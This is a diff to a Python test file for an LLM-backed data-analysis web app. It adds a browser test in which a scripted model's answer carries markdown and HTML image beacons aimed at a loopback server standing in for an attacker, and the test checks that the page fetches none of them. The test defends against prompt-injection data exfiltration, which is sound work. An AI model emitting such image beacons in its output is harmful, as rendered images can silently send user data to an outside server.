@@ -6,6 +6,7 @@ import json
 import re
 
 import pandas as pd
+import pytest
 
 from analyst.answer import ChartPart
 from analyst.pipeline import answer_question
@@ -16,6 +17,8 @@ from providers.settings import ProviderSettings
 from tests.conftest import FAST_RETRIES
 from tests.support.apptest import open_app
 from tests.support.fake_endpoint import FakeEndpoint
+from tests.support.scripted_model import ScriptedModel, fenced
+from tests.support.streamlit_server import running_app
 
 TOKEN = "hf_InjectionVictim0000001"
 INJECTIONS = [
@@ -97,3 +100,22 @@ def test_the_page_never_shows_the_token(endpoint: FakeEndpoint) -> None:
     assert TOKEN not in str(at._tree)
     assert "earthquakes (1,707 rows)" in at.caption[0].value
     assert all(not loading_keys(json.loads(chart.proto.spec)) for chart in at.get("vega_lite_chart"))
+
+
+@pytest.mark.browser
+def test_an_insight_cannot_make_the_browser_fetch_an_image(page, endpoint: FakeEndpoint) -> None:  # type: ignore[no-untyped-def]
+    """The page is where an image would leak data: the loopback endpoint itself plays the attacker's server."""
+    beacons = [f"![a[b]c]({endpoint.url}/leak-1.png?d=1707)", f"<img src='{endpoint.url}/leak-2.png'>",
+               f"![x][r]\n\n[r]: {endpoint.url}/leak-3.png"]  # fmt: skip
+    endpoint.responder = ScriptedModel(insight="There were 1,707 events. " + " ".join(beacons)).on(
+        "how many", fenced("SELECT count(*) AS n FROM earthquakes")
+    )
+    env = {"HUGGINGFACE_API_KEY": TOKEN, "HUGGINGFACE_ENDPOINT_URL": endpoint.url, "HUGGINGFACE_MODEL": "tgi"}
+    with running_app(env) as url:
+        page.goto(url)
+        box = page.get_by_placeholder("Ask a question about the data")
+        box.fill("How many earthquakes are there?")
+        box.press("Enter")
+        page.get_by_text("There were 1,707 events.").first.wait_for()
+        page.wait_for_timeout(1500)  # time for any image request to arrive
+    assert not [r.path for r in endpoint.requests if "leak" in r.path]
